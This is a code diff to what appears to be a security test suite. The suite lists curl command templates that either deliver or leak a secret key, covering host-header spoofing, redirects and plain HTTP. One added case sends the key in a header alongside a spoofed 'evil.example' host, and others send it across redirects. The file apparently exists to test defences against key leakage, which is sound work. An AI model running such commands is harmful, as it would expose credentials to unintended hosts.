@@ -116,12 +116,23 @@ export const shellWays: readonly Way[] = [
     (attempt) =>
       `${curl} -H "host: localhost:${attempt.world.servers.right.port}" -H "x-key: $KEY" ${wrongUrl(attempt)}; ${curl} --connect-to ::127.0.0.1:${attempt.world.servers.wrong.port} -H "x-key: $KEY" ${rightUrl(attempt)}`,
   ),
+  {
+    ...steal(
+      "another site behind the right host",
+      (attempt) => `${curl} -H "host: evil.example" -H "x-key: $KEY" ${rightUrl(attempt)}`,
+    ),
+    // The right server is where it must not arrive either.
+    right: (attempt) => !arrived(attempt),
+  },
   authenticate(
     "a redirect to another host",
     (attempt) =>
-      `${curl} -L -H "x-key: $KEY" ${rightUrl(attempt, `/to?${attempt.random.pick([301, 302, 303, 307, 308])}`)}`,
+      `${curl} ${wrongUrl(attempt)}; ${curl} -L -H "x-key: $KEY" ${rightUrl(attempt, `/to?${attempt.random.pick([301, 302, 303, 307, 308])}`)}`,
   ),
-  authenticate("a redirect with the body", (attempt) => `${curl} -L -d "k=$KEY" ${rightUrl(attempt, "/to?307")}`),
+  authenticate(
+    "a redirect with the body",
+    (attempt) => `${curl} ${wrongUrl(attempt)}; ${curl} -L -d "k=$KEY" ${rightUrl(attempt, "/to?307")}`,
+  ),
   steal(
     "plain HTTP",
     (attempt) =>
